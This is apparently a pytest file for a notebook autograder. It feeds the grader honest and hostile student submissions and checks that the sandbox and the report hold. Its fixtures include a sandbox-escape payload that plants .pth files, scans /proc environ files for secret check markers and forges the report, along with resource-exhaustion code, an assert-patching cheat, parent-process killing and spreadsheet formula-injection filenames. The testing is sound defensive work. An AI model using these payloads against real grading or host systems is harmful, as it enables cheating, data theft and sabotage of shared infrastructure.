"""grading: a class of honest and hostile submissions comes out of the report as what it is.

One grading run (two sandboxes at a time) covers a small demo assignment that
needs no TensorFlow: correct, partly correct, unanswered, doctored, looping,
crashing, files that are not notebooks or not submissions, and hostile
submissions that try every attack found so far on the grader: points from
inside the kernel, reading the hidden checks and the solutions, escaping the
sandbox as root, exhausting memory, tasks, output and disk, stopping the run,
forging the report. Two smaller runs try the limits without cgroups and the
sandbox as an unprivileged grader. The real notebook 02 is graded in
``make test-slow``.
"""

import csv
import json
import os
import socket
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import nbformat
import psutil
import pytest

from course_utils import notebooks, student
from course_utils.grading import classrun, grade, sandbox
from course_utils.grading.limits import Limits
from course_utils.grading.report import md

ROOT = Path(__file__).resolve().parent.parent
SANDBOX_PROBLEM = sandbox.bwrap_problem()
needs_sandbox = pytest.mark.skipif(SANDBOX_PROBLEM is not None, reason=f"no sandbox here: {SANDBOX_PROBLEM}")
SLEEPER = "sleep 7777"          # the leftover process an attack starts; none may survive the run
MARKER = "HIDDEN-CHECK-MARKER-5e1f"


def _meta(grade_id, **flags):
    meta = {"grade": False, "grade_id": grade_id, "locked": False, "schema_version": 3, "solution": False,
            "task": False}
    meta.update(flags)
    return {"nbgrader": meta}


def _check(grade_id, points, uses):
    return {**_meta(grade_id, grade=True, locked=True, points=points), "course": {"uses": uses}}


SOLUTION_CELLS = [
    ("markdown", "# Demo assignment", {}),
    ("code", "import math\nbase = 6", {}),
    ("markdown", "## Exercise 1: multiply (2 points)\n\n1. Compute `product`. (1 pt)\n2. Why is it even? (1 pt)", {}),
    ("code", "### BEGIN SOLUTION\nproduct = base * 7\n### END SOLUTION\nprint(f'product = {product}')",
     _meta("ex1_solution", solution=True)),
    ("code", "assert product == 42", _check("ex1_product", 1, {"product": "json"})),
    ("markdown", "**Answer:** 42 is 6 times 7, and 6 is even.", _meta("ex1_why", grade=True, solution=True, points=1)),
    ("markdown", "## Exercise 2: a square root (1 point)", {}),
    ("code", "### BEGIN SOLUTION\nroot = math.sqrt(product)\n### END SOLUTION\nprint(f'root = {root:.4f}')",
     _meta("ex2_solution", solution=True)),
    ("code", "assert abs(root * root - 42) < 1e-9", _check("ex2_root", 1, {"root": "json"})),
    ("code", "print('done')", {}),
]
CHECKS = {"ex1_product": "assert product == 6 * 7, f'product is {product!r}, not 6 times 7'\n",
          "ex2_root": "import math\nassert isinstance(root, float) and math.isclose(root * root, 42), "
                      "f'root is {root!r}, whose square is not 42'\n"}


def _notebook(cells):
    make = {"markdown": nbformat.v4.new_markdown_cell, "code": nbformat.v4.new_code_cell}
    nb = nbformat.v4.new_notebook(cells=[make[kind](src, metadata=meta) for kind, src, meta in cells])
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    return nb


class Listener:
    """A TCP server on 127.0.0.1 that counts the connections it accepts."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(5)
        self.sock.settimeout(0.1)
        self.port, self.accepted, self._stop = self.sock.getsockname()[1], 0, threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self):
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.accepted += 1
            conn.close()

    def close(self):
        self._stop.set()
        self._thread.join()
        self.sock.close()


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """A course with one solution notebook, its published student version, its checks and a hidden check."""
    base = tmp_path_factory.mktemp("grading")
    os.chmod(base, 0o755)
    course = base / "course"
    (course / "notebooks").mkdir(parents=True)
    solution = course / "notebooks" / "07_demo.ipynb"
    nbformat.write(_notebook(SOLUTION_CELLS), solution)
    reference = student.student_path(solution)
    student.write_notebook_pair(student.make_student_version(notebooks.read(solution), reference, course),
                                reference)
    checks = course / "checks" / "07_demo"
    checks.mkdir(parents=True)
    for grade_id, code in CHECKS.items():
        (checks / f"{grade_id}.py").write_text(code)
    hidden = base / "hidden" / "07_demo"
    hidden.mkdir(parents=True)
    (hidden / "root.py").write_text(f"# grade_id: ex2_root\nassert root > 6  # {MARKER}\n")
    for path in [base, *base.rglob("*")]:
        os.chmod(path, 0o755 if path.is_dir() else 0o644)
    return base, solution, reference


def _answered(published):
    nb = nbformat.reads(json.dumps(published), as_version=4)
    for cell, (kind, src, _) in zip(nb.cells, SOLUTION_CELLS):
        if kind == "code" and "raise NotImplementedError()" in cell.source:
            cell.source = src.replace(student.BEGIN + "\n", "").replace(student.END + "\n", "")
        elif cell.source == student.ANSWER_PROMPT:
            cell.source = src
    return nb


def _settings(course, **limits):
    base, _, reference = course
    return grade.Settings(reference_dir=reference.parent, checks_dir=base / "course" / "checks",
                          hidden_dir=base / "hidden", cell_timeout=5, total_timeout=60,
                          sandboxed=SANDBOX_PROBLEM is None, limits=Limits(**{"memory_mb": 600, "tasks": 128, **limits}))


INTRUDER = """
import ctypes, os, pathlib, socket, subprocess, course_utils
found = []


def nested_user_namespace():
    if ctypes.CDLL(None, use_errno=True).unshare(0x10000000) != 0:
        raise OSError("unshare(CLONE_NEWUSER) refused")


venv = {venv!r}
subprocess.run(["mount", "-o", "remount,rw,bind", venv, venv], capture_output=True)
for attempt in [lambda: open(venv + "/lib/python3.11/site-packages/zz_graded.pth", "w").write("import os"),
                lambda: open({site_packages!r} + "/zz_graded.pth", "w").write("import os"),
                lambda: open({solution!r}, "w").write("gone"),
                lambda: socket.create_connection(("127.0.0.1", {port}), timeout=2),
                nested_user_namespace]:
    try:
        attempt()
        found.append("an attempt went through")
    except Exception as exc:
        print(type(exc).__name__, exc)
subprocess.Popen({sleeper!r}, start_new_session=True)
repo = pathlib.Path(course_utils.__file__).parent
print("grader's code visible:", os.listdir(repo / "grading"))
for path in [repo.parent / "notebooks" / "02_first_mlp.ipynb", pathlib.Path({solution!r}), pathlib.Path({hidden!r})]:
    try:
        found.append(path.read_text()[:40])
    except OSError as exc:
        print(type(exc).__name__, exc)
import glob
places = glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/environ")
for top in ["/tmp", "/home", "/run", "/mnt", "/srv", "/dev/shm"]:
    places += [os.path.join(d, n) for d, _, files in os.walk(top) for n in files]
for path in places:
    try:
        if ("{marker_head}" + "{marker_tail}").encode() in open(path, "rb").read(1 << 20):
            found.append(path)
    except OSError:
        pass
raise type("Forged | 7 / 7 |\\n| zz | yes", (Exception,), {{}})("; ".join(found) or "=HYPERLINK(1) nothing | found")
"""

HOG = ["""
try:
    with open("/dev/shm/fill", "wb") as fh:
        for _ in range(1500):
            fh.write(b"x" * 2**20)
except OSError as exc:
    print("shm:", exc.strerror)
""", """
import os
block = b"e" * 2**20
for _ in range(120):
    os.write(2, block)
""", """
print("o" * 4 * 2**20)
""", """
import threading, time
threads = []
try:
    for _ in range(3000):
        t = threading.Thread(target=time.sleep, args=(30,), daemon=True)
        t.start()
        threads.append(t)
except RuntimeError as exc:
    print("threads:", len(threads), exc)
""", """
hog = []
for _ in range(80):
    hog.append(bytearray(100 * 2**20))
"""]


@pytest.fixture(scope="module")
def graded(course):
    """Build honest and hostile submissions from the student version; grade them all in one run."""
    base, solution, reference = course
    published = notebooks.read(reference)
    subs = base / "submissions"
    subs.mkdir()
    site_packages = Path(psutil.__file__).resolve().parent.parent
    listener = Listener()

    def submission(name, edit=None, execute=False, doctor=None, hostile=None):
        nb = _answered(published)
        if edit:
            edit(nb)
        for k, code in enumerate([hostile] if isinstance(hostile, str) else hostile or []):
            nb.cells.insert(2 + k, nbformat.v4.new_code_cell(code))    # given-looking cells after the set-up
        if execute:
            from nbclient import NotebookClient

            NotebookClient(nb, timeout=60, kernel_name="python3", allow_errors=True).execute()
        if doctor:
            doctor(nb)
        nbformat.write(nb, subs / name)

    submission("alice_07_demo.ipynb", execute=True)                             # correct, with outputs
    submission("Xena_07_DEMO.ipynb")                                            # correct, the name in other case

    def raises(nb):
        nb.cells[7].source = "root = math.sqrt(-product)\nprint(root)"
    submission("bob_07_demo.ipynb", raises)                                     # partly correct

    def doctor(nb):
        out = nb.cells[3].outputs[0]
        out["text"] = out["text"].replace("42", "43")
    submission("carol_07_demo.ipynb", execute=True, doctor=doctor)

    def loop(nb):
        nb.cells[7].source = "while True:\n    pass"
    submission("dave_07_demo.ipynb", loop)

    def edit_given(nb):
        nb.cells[1].source = "import math\nbase = 7"
    submission("erin_07_demo.ipynb", edit_given)

    def unanswered(nb):
        nb.cells[7].source = "# YOUR CODE HERE\nraise NotImplementedError()"
    submission("frank_07_demo.ipynb", unanswered)

    def only_pass(nb):
        nb.cells[3].source = "pass\nprint(f'product = {product}')"
        nb.cells[7].source = "pass\nprint(f'root = {root:.4f}')"
    submission("paula_07_demo.ipynb", only_pass)                                # `pass` everywhere

    def crash(nb):
        nb.cells[7].source = "import os\nos._exit(1)"
    submission("ivan_07_demo.ipynb", crash)
    (subs / "henry_07_demo.ipynb").write_text("this is not json")
    broken = json.loads(json.dumps(published))
    broken["nbformat"] = "4"
    (subs / "nora_07_demo.ipynb").write_text(json.dumps(broken))
    (subs / "solution_07_demo.ipynb").symlink_to(solution)                      # a link to the solution
    own_points = _notebook([("markdown", "## Exercise 1: mine (100 points)", {}),
                            ("code", "assert True", _check("mine", 100, {}))])
    nbformat.write(own_points, subs / "zoe_homework.ipynb")                     # matches no notebook
    submission("dup_07_demo.ipynb")
    submission("Dup-07_demo.ipynb", unanswered)                                 # the same student twice
    submission('=HYPERLINK("http:x?leak="&A2)|evil\n| forged | 7 |_07_demo.ipynb')

    def swallow(nb):            # every exception swallowed, assert patched: the self-checks "pass" in the kernel
        nb.cells[3].source = ("get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\n"
                              "import builtins\nbuiltins.AssertionError = type('Nothing', (Exception,), {})\n"
                              "product = 43")
        nb.cells[7].source = "root = 'a string'"
    submission("zz_swallow_07_demo.ipynb", swallow)

    submission("zz_hog_07_demo.ipynb", hostile=HOG)

    def verdict(nb):            # forged hand-over files and verdicts, then the kernel's parent killed
        nb.cells.insert(2, nbformat.v4.new_code_cell(
            "import json, os, pathlib\n"
            "for folder in [pathlib.Path(p) for p in __import__('glob').glob('/tmp/**/export', recursive=True)]"
            " + [pathlib.Path('.')]:\n"
            "    (folder / 'result.json').write_text(json.dumps({'stopped': None, 'ran': 99}))\n"
            "    (folder / 'manifest.json').write_text(json.dumps({'product': 'ok', 'root': 'ok'}))\n"
            "    (folder / 'product.json').write_text('42')\n"
            "os.kill(os.getppid(), 9)\nos._exit(0)"))
    if SANDBOX_PROBLEM is None:  # unsandboxed these would really write, leave processes and kill the runner
        submission("zz_intruder_07_demo.ipynb", hostile=INTRUDER.format(
            venv=sys.prefix, site_packages=str(site_packages), solution=str(solution), port=listener.port,
            sleeper=SLEEPER.split(), hidden=str(base / "hidden" / "07_demo" / "root.py"),
            marker_head=MARKER[:7], marker_tail=MARKER[7:]))
        submission("zz_verdict_07_demo.ipynb", verdict)
    return _grade(subs, base, course, listener, site_packages)


def _grade(subs, base, course, listener, site_packages):
    """Grade the class in ``subs`` (two at a time) and return what the tests read."""
    solution = course[1]
    before = solution.read_bytes()
    rss_before = psutil.Process().memory_info().rss
    start = time.monotonic()
    scratch = base / "scratch"        # the grader's working folders, apart from any other test's
    scratch.mkdir(mode=0o755)
    tempfile.tempdir, before_tmp = str(scratch), tempfile.tempdir
    try:
        results = classrun.grade_folder(subs, base / "report", _settings(course), jobs=2, protect=[base / "course", subs])
    finally:
        tempfile.tempdir = before_tmp
        listener.close()
    return {
        "results": {r.name: r for r in results}, "report": base / "report", "seconds": time.monotonic() - start,
        "listener": listener, "site_packages": site_packages, "solution": solution, "solution_before": before,
        "subs": subs, "reference": course[2], "rss_growth": psutil.Process().memory_info().rss - rss_before,
        "scratch": scratch,
    }


def _parts(result):
    return {p.grade_id: (p.status, p.earned) for p in result.parts}


def test_correct_submission_gets_full_autograded_points(graded):
    for name in ("alice_07_demo.ipynb", "Xena_07_DEMO.ipynb"):
        r = graded["results"][name]
        assert (r.status, r.first_error, r.unanswered, r.changed_given, r.doctored) == ("ran", "", [], [], [])
        assert r.notebook == "07_demo" and r.sandboxed is (SANDBOX_PROBLEM is None)
        assert _parts(r) == {"ex1_product": ("passed", 1.0), "ex1_why": ("awaiting grading by hand", None),
                             "ex2_root": ("passed", 1.0)}
        assert (r.earned, r.available) == (2.0, 2.0)
    assert graded["results"]["Xena_07_DEMO.ipynb"].student == "Xena"


def test_partly_correct_submission_gets_the_points_of_what_passes(graded):
    r = graded["results"]["bob_07_demo.ipynb"]
    assert r.status == "error" and r.first_error.startswith("cell 8 (Exercise 2): ValueError: math domain error")
    assert _parts(r)["ex1_product"] == ("passed", 1.0) and _parts(r)["ex2_root"] == ("failed", 0.0)
    assert "`root` could not be handed over (NameError" in r.parts[2].message
    assert r.self_checks_failed == ["Exercise 2, ex2_root: the check cell failed"]


def test_unanswered_exercises_earn_nothing(graded):
    frank = graded["results"]["frank_07_demo.ipynb"]
    assert frank.unanswered == ["Exercise 2"] and _parts(frank)["ex2_root"] == ("unanswered", 0.0)
    paula = graded["results"]["paula_07_demo.ipynb"]       # `pass` everywhere: it runs, but nothing is answered
    assert paula.unanswered == ["Exercise 1", "Exercise 2"] and paula.earned == 0.0
    assert paula.status == "error"


def test_hidden_check_withholds_points_and_stays_hidden(graded, course, tmp_path):
    base = course[0]
    hidden = base / "hidden" / "07_demo"
    assert _parts(graded["results"]["alice_07_demo.ipynb"])["ex2_root"] == ("passed", 1.0)  # it ran, and passed
    (tmp_path / "07_demo").mkdir()
    (tmp_path / "07_demo" / "strict.py").write_text("# grade_id: ex2_root\nassert isinstance(root, int), 'a hidden check'\n")
    subs = tmp_path / "subs"
    subs.mkdir()
    (subs / "alice_07_demo.ipynb").write_bytes((graded["subs"] / "alice_07_demo.ipynb").read_bytes())
    settings = _settings(course)
    settings.hidden_dir = tmp_path
    [r] = classrun.grade_folder(subs, tmp_path / "out", settings, jobs=1)
    assert _parts(r)["ex2_root"] == ("failed", 0.0)
    assert r.parts[2].message == "hidden check strict.py: AssertionError: a hidden check"
    (tmp_path / "07_demo" / "bad.py").write_text("assert True\n")
    with pytest.raises(ValueError, match=r"bad.py does not name its part: start it with a line '# grade_id: "):
        grade.checker.hidden_checks(tmp_path, "07_demo")
    assert (hidden / "root.py").read_text().count(MARKER) == 1


def test_doctored_output_is_caught(graded):
    r = graded["results"]["carol_07_demo.ipynb"]
    assert r.status == "ran" and r.earned == 2.0
    assert len(r.doctored) == 1 and r.doctored[0].startswith("cell 4 (Exercise 1): saved output `product = 43`")


def test_endless_loop_hits_the_cell_time_limit(graded):
    r = graded["results"]["dave_07_demo.ipynb"]
    assert r.status == "cell time limit" and r.first_error == "cell 8 (Exercise 2): cell time limit"
    assert _parts(r)["ex2_root"] == ("failed", 0.0) and "nothing was handed over" in r.parts[2].message
    assert r.seconds < 40


def test_edited_given_cell_is_reported(graded):
    r = graded["results"]["erin_07_demo.ipynb"]
    assert r.changed_given == ["cell 2 ((given)): `import math`"]
    assert _parts(r)["ex1_product"] == ("failed", 0.0)        # base = 7 makes the product 49
    assert "product is 49, not 6 times 7" in r.parts[0].message


def test_files_that_are_not_gradable_notebooks_are_rows_of_their_own(graded):
    results = graded["results"]
    henry, nora = results["henry_07_demo.ipynb"], results["nora_07_demo.ipynb"]
    assert henry.status == nora.status == "not a gradable notebook"
    assert henry.first_error.startswith("not JSON") and nora.first_error == "not a version-4 notebook (nbformat '4')"
    assert henry.earned == 0 and [p.status for p in henry.parts][0] == "not graded: not a gradable notebook"
    link = results["solution_07_demo.ipynb"]
    assert link.status == "skipped" and link.notes == ["skipped: a symbolic link (links are never followed)"]
    assert link.parts == [] and link.earned == 0


def test_points_are_the_courses_never_the_files(graded):
    zoe = graded["results"]["zoe_homework.ipynb"]
    assert (zoe.status, zoe.notebook, zoe.parts) == ("matches no notebook of the course", "", [])
    assert zoe.notes[0].startswith("matches no notebook of the course (0 points)")
    book = (graded["report"] / "gradebook.csv").read_text()
    assert "100" not in book and "zoe" not in book


def test_two_files_of_one_student_are_both_reported_and_neither_counted(graded):
    one, two = graded["results"]["dup_07_demo.ipynb"], graded["results"]["Dup-07_demo.ipynb"]
    assert one.duplicate_of == ("Dup-07_demo.ipynb",) and two.duplicate_of == ("dup_07_demo.ipynb",)
    assert one.earned == 2.0 and two.earned == 1.0
    book = {row["student"]: row for row in csv.DictReader((graded["report"] / "gradebook.csv").open())}
    assert book["dup"]["07_demo: Exercise 2 (/1)"] == "" and book["Dup"]["07_demo: Exercise 2 (/1)"] == ""
    assert book["dup"]["notes"] == "2 files for 07_demo, not counted: Dup-07_demo.ipynb, dup_07_demo.ipynb" == \
        book["Dup"]["notes"] and book["dup"]["total"] == ""
    assert "ALSO SUBMITTED for the same student and notebook: Dup-07_demo.ipynb" in \
        (graded["report"] / "report.md").read_text().replace("\\", "")


def test_dead_kernel_is_reported(graded):
    r = graded["results"]["ivan_07_demo.ipynb"]
    assert r.status == "kernel died" and r.first_error == "cell 8 (Exercise 2): kernel died"


def test_swallowed_exceptions_and_a_patched_assert_earn_nothing(graded):
    r = graded["results"]["zz_swallow_07_demo.ipynb"]
    assert r.status == "ran" and r.first_error == "" and r.self_checks_failed == []   # fooled inside the kernel
    assert _parts(r)["ex1_product"] == ("failed", 0.0) and _parts(r)["ex2_root"] == ("failed", 0.0)
    assert r.parts[0].message == "check ex1_product: AssertionError: product is 43, not 6 times 7"


def test_resources_are_limited_and_reported(graded):
    r = graded["results"]["zz_hog_07_demo.ipynb"]
    usage = r.usage
    assert r.status.startswith("memory limit exceeded (peak ") and r.status.endswith("limit 600 MB)")
    assert 550 < usage["memory_mb"] < 2500
    assert usage["stream_bytes"] >= 120 * 2**20                     # counted, not kept
    assert usage["truncated_cells"] == [3, 4]                         # the kernel forwards fd 2 as output too
    hits = " ".join(usage["limits_hit"])
    if usage["enforced_by"].startswith("cgroup"):
        assert "task limit reached" in hits and "at 128 tasks" in hits
    assert "the sandbox's /dev/shm full (64 of 64 MB)" in hits
    assert graded["rss_growth"] < 200 * 2**20, "the grader's memory grew with what a submission printed"


@needs_sandbox
def test_attacks_from_inside_the_sandbox_change_nothing_outside(graded):
    r = graded["results"]["zz_intruder_07_demo.ipynb"]
    assert r.first_error.startswith("cell 3 ((given)): Forged | 7 / 7 |") and "nothing | found" in r.first_error and "an attempt went through" not in r.first_error
    assert not (graded["site_packages"] / "zz_graded.pth").exists()
    assert not list(Path(sys.prefix).rglob("zz_graded.pth"))
    assert graded["listener"].accepted == 0
    assert graded["solution"].read_bytes() == graded["solution_before"]
    alive = [p for p in psutil.process_iter(["cmdline"]) if " ".join(p.info["cmdline"] or []) == SLEEPER]
    assert alive == []
    for name in ("report.md", "report.csv", "gradebook.csv"):
        assert MARKER not in (graded["report"] / name).read_text()


@needs_sandbox
def test_a_forged_verdict_and_a_killed_parent_are_graded_as_what_they_did(graded):
    r = graded["results"]["zz_verdict_07_demo.ipynb"]
    assert r.status == "kernel died" and r.first_error == "cell 3 ((given)): kernel died"
    assert r.earned == 0 and all("nothing was handed over" in p.message for p in r.parts if p.kind == "auto")


def test_the_report_cannot_be_forged(graded):
    report = graded["report"]
    names = {p.name for p in graded["subs"].iterdir()}
    rows = list(csv.DictReader((report / "report.csv").open()))
    assert {row["file"] for row in rows} == {n if not n.startswith("=") else "'" + n.replace("\n", " ") for n in names}
    assert not [v for row in rows for v in row.values() if v and v[0] in "=+-@\t\r"]
    table = [line for line in (report / "report.md").read_text().splitlines() if line.startswith("| ")]
    assert len(table) == len(names) + 2          # the header and its rule, then one row per file, no forged row
    assert all(line.count(" | ") == 10 for line in table)
    assert {row["sandboxed"] for row in rows if row["sandboxed"]} == {"yes" if SANDBOX_PROBLEM is None else "NO"}


def test_report_gradebook_and_scratch_folders(graded):
    report = graded["report"]
    carol = [row["status"] for row in csv.DictReader((report / "report.csv").open())
             if row["file"].startswith("carol")]
    assert "output not reproduced" in carol
    assert "| dave\\_07\\_demo.ipynb | dave | 07\\_demo | cell time limit |" in (report / "report.md").read_text()
    book = {row["student"]: row for row in csv.DictReader((report / "gradebook.csv").open())}
    assert book["alice"]["07_demo: Exercise 2 (/1)"] == "1" and book["alice"]["autograded total"] == "2"
    assert book["alice"]["07_demo: Exercise 1 (/2)"] == "" and book["alice"]["total"] == ""   # waiting for a grade
    assert book["alice"]["maximum"] == "3" and book["alice"]["points to grade by hand"] == "1"
    assert book["bob"]["autograded total"] == "1" and book["frank"]["07_demo: Exercise 2 (/1)"] == "0"
    assert list(graded["scratch"].glob("grading-*/*")) == [], "a working folder was left behind"


def test_every_student_gets_a_feedback_page(graded):
    report = graded["report"]
    bob = (report / "feedback" / "bob" / "07_demo.html").read_text()
    assert "<title>Feedback: 07_demo · bob</title>" in bob and "Autograded points: <strong>1 / 2</strong>" in bob
    assert "ValueError: math domain error" in bob and "Cell In[" in bob          # the traceback, of the cell
    assert "`root` could not be handed over (NameError" in bob
    assert "<script" not in bob and "http" not in bob.split("</head>")[1]      # self-contained
    erin = (report / "feedback" / "erin" / "07_demo.html").read_text()
    assert "Given cells you changed" in erin and "-base = 6" in erin and "+base = 7" in erin
    hostile = [p for p in (report / "feedback").rglob("*.html") if "HYPERLINK" in p.parent.name]
    assert len(hostile) == 1 and "<script" not in hostile[0].read_text()
    assert (report / "feedback" / "alice" / "07_demo.md").read_text().startswith("# Feedback: 07\\_demo")
    assert "awaiting grading by hand" in (report / "feedback" / "alice" / "07_demo.html").read_text()


def _copy_report(graded, tmp_path):
    import shutil

    out = tmp_path / "report"
    shutil.copytree(graded["report"], out)
    return out


def test_grades_given_by_hand_are_merged_without_running_anything(graded, tmp_path, monkeypatch):
    out = _copy_report(graded, tmp_path)
    rows = list(csv.DictReader((out / "manual.csv").open()))
    assert {(r["file"], r["task"], r["max points"], r["points"]) for r in rows if r["student"] == "alice"} == \
        {("alice_07_demo.ipynb", "ex1_why", "1", "")}
    for row in rows:
        if row["student"] == "alice":
            row["points"], row["comment"] = "0.5", "right, but say why 6 is even"
    with (out / "manual.csv").open("w", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    monkeypatch.setattr(grade, "grade_file", lambda *a, **k: pytest.fail("--manual must not grade again"))
    from course_utils.grading import cli

    assert cli.main(["--manual", str(out / "manual.csv"), "--out", str(out)]) == 0
    book = {row["student"]: row for row in csv.DictReader((out / "gradebook.csv").open())}
    assert book["alice"]["07_demo: Exercise 1 (/2)"] == "1.5" and book["alice"]["total"] == "2.5"
    assert book["alice"]["points to grade by hand"] == "0" and book["bob"]["07_demo: Exercise 1 (/2)"] == ""
    page = (out / "feedback" / "alice" / "07_demo.html").read_text()
    assert "right, but say why 6 is even" in page and "0.5 / 1 points" in page
    again = {r["task"]: r["points"] for r in csv.DictReader((out / "manual.csv").open()) if r["student"] == "alice"}
    assert again == {"ex1_why": "0.5"}                                  # a later run keeps the grades given


@pytest.mark.parametrize("edit,problem", [
    (lambda r: r.update(points="2"), "2 points for ex1_why is outside 0 to its maximum 1"),
    (lambda r: r.update(points="lots"), "points 'lots' is not a number"),
    (lambda r: r.update(file="nobody_07_demo.ipynb", points="1"), "no file 'nobody_07_demo.ipynb' in the last run"),
    (lambda r: r.update(task="ex1_product", points="1"), "07_demo has no task 'ex1_product' graded by hand"),
    (lambda r: r.update(student="mallory", points="1"), "is student 'alice', notebook '07_demo', not 'mallory'"),
])
def test_a_manual_csv_with_a_bad_row_merges_nothing(graded, tmp_path, capsys, edit, problem):
    out = _copy_report(graded, tmp_path)
    rows = list(csv.DictReader((out / "manual.csv").open()))
    good = next(r for r in rows if r["student"] == "bob")
    good["points"] = "1"
    edit(next(r for r in rows if r["student"] == "alice"))
    with (out / "manual.csv").open("w", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    before = (out / "gradebook.csv").read_text()
    from course_utils.grading import cli

    assert cli.main(["--manual", str(out / "manual.csv"), "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert problem in err and "nothing merged" in err
    assert (out / "gradebook.csv").read_text() == before


def test_a_malformed_manual_csv_is_refused(graded, tmp_path, capsys):
    out = _copy_report(graded, tmp_path)
    (out / "manual.csv").write_text("file,task,points\nalice_07_demo.ipynb,ex1_why,1,extra\n")
    from course_utils.grading import cli

    assert cli.main(["--manual", str(out / "manual.csv"), "--out", str(out)]) == 2
    assert "row 2: the row has more cells than the header" in capsys.readouterr().err


def test_markdown_and_csv_escaping_round_trips_hostile_names():
    from course_utils.grading.report import csv_cell

    assert md("a | b\n| c | d |") == "a \\| b \\| c \\| d \\|"
    assert md("<script>alert(1)</script>") == "&lt;script&gt;alert(1)&lt;/script&gt;"
    assert md("x" * 500, 10) == "x" * 9 + "…"
    for text in ("=1+1", "+cmd", "-2", "@SUM(A1)", "\tx", "\rx", '=HYPERLINK("http://x?leak="&A2,"c")'):
        assert csv_cell(text).startswith("'"), text
    assert csv_cell("plain, text") == "plain, text" and csv_cell("two\nlines") == "two lines"


def test_report_is_the_same_whatever_the_number_of_jobs(graded, course, tmp_path):
    subs = tmp_path / "subs"
    subs.mkdir()
    for name in ("alice_07_demo.ipynb", "bob_07_demo.ipynb", "frank_07_demo.ipynb"):
        (subs / name).write_bytes((graded["subs"] / name).read_bytes())
    classrun.grade_folder(subs, tmp_path / "one", _settings(course), jobs=1)

    def table(path):
        return [{k: v for k, v in row.items() if k not in ("seconds", "detail")}
                for row in csv.DictReader(path.open())]

    two = [row for row in table(graded["report"] / "report.csv") if row["file"] in {p.name for p in subs.iterdir()}]
    assert table(tmp_path / "one" / "report.csv") == two
    assert (tmp_path / "one" / "gradebook.csv").read_text().splitlines()[0] == \
        "student,07_demo: Exercise 1 (/2),07_demo: Exercise 2 (/1),total,maximum,autograded total," \
        "points to grade by hand,notes"


@needs_sandbox
def test_limits_without_cgroups_fall_back_and_say_so(course, graded, tmp_path):
    """Where no cgroup can be made: the memory watch and RLIMIT_NPROC, and the report says which."""
    subs = tmp_path / "subs"
    subs.mkdir()
    for name in ("alice_07_demo.ipynb", "zz_hog_07_demo.ipynb"):
        (subs / name).write_bytes((graded["subs"] / name).read_bytes())
    results = {r.name: r for r in classrun.grade_folder(subs, tmp_path / "out", _settings(course, use_cgroups=False),
                                                        jobs=2)}
    assert results["alice_07_demo.ipynb"].earned == 2.0
    hog = results["zz_hog_07_demo.ipynb"]
    assert hog.usage["enforced_by"].startswith("fallback: resident memory sampled every 0.05 s; tasks by RLIMIT_NPROC")
    assert hog.status.startswith("memory limit exceeded") and hog.usage["memory_mb"] > 600


@pytest.mark.skipif(os.geteuid() != 0 or SANDBOX_PROBLEM is not None, reason="needs root, to become a normal user")
def test_the_sandbox_holds_for_an_unprivileged_grader(course, graded, tmp_path):
    """The same grading run by a normal user (uid 65534): the sandbox, its limits and the checks still hold."""
    work = Path(grade.tempfile.mkdtemp(prefix="grading-as-user-"))
    try:
        os.chown(work, 65534, 65534)
        subs = work / "subs"
        subs.mkdir()
        for name in ("alice_07_demo.ipynb", "zz_intruder_07_demo.ipynb", "zz_swallow_07_demo.ipynb"):
            (subs / name).write_bytes((graded["subs"] / name).read_bytes())
        import shutil

        shutil.copytree(course[0] / "course", work / "course")
        for path in [subs, *work.rglob("*")]:
            os.chown(path, 65534, 65534)
        base = work
        script = (f"import sys; sys.path.insert(0, {str(ROOT)!r})\n"
                  "from pathlib import Path\nfrom course_utils.grading import classrun, grade, sandbox\n"
                  "from course_utils.grading.limits import Limits\n"
                  "assert sandbox.bwrap_problem() is None, sandbox.bwrap_problem()\n"
                  f"s = grade.Settings(reference_dir=Path({str(work / 'course' / 'notebooks' / 'student')!r}), "
                  f"checks_dir=Path({str(base / 'course' / 'checks')!r}), cell_timeout=5, total_timeout=60, "
                  "limits=Limits(memory_mb=600, tasks=128))\n"
                  f"rs = classrun.grade_folder(Path({str(subs)!r}), Path({str(work / 'out')!r}), s, jobs=2, "
                  f"protect=[Path({str(subs)!r})])\n"
                  "print([(r.name, r.earned, r.usage.get('enforced_by')) for r in rs])\n")
        # A normal user's Python is one that user can reach; this machine's may sit under /root (0700), so in
        # a mount namespace of the test's own, /root becomes a tmpfs that holds only that Python.
        python_home = Path(sys.base_prefix).resolve()
        as_user = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", sys.executable, "-c", script]
        if str(python_home).startswith("/root/"):
            shell = (f"mkdir -p {work}/py && mount --bind {python_home} {work}/py && "
                     "mount -t tmpfs -o mode=0755 none /root && "
                     f"mkdir -p {python_home} && mount --move {work}/py {python_home} && exec \"$@\"")
            as_user = ["unshare", "-m", "--propagation", "private", "sh", "-c", shell, "sh", *as_user]
        proc = subprocess.run(as_user, capture_output=True, text=True, timeout=300,
                              env={**os.environ, "HOME": str(work), "TMPDIR": str(work)})
        assert proc.returncode == 0, proc.stderr[-2000:]
        seen = eval(proc.stdout.strip().splitlines()[-1])  # noqa: S307 - our own script's printout
        # the intruder's attacks fail, and its answers (after them) are right
        assert [(n, e) for n, e, _ in seen] == [("alice_07_demo.ipynb", 2.0), ("zz_intruder_07_demo.ipynb", 2.0),
                                                ("zz_swallow_07_demo.ipynb", 0.0)]
        assert all("RLIMIT_NPROC of the grader's uid, shared" in how for _, _, how in seen)
        assert not list(Path(sys.prefix).rglob("zz_graded.pth"))
        assert course[1].read_bytes() == graded["solution_before"]
    finally:
        subprocess.run(["rm", "-rf", str(work)])


def test_self_check_runs_the_checks(graded, course, capsys):
    r = grade.self_check(graded["subs"] / "bob_07_demo.ipynb", _settings(course))
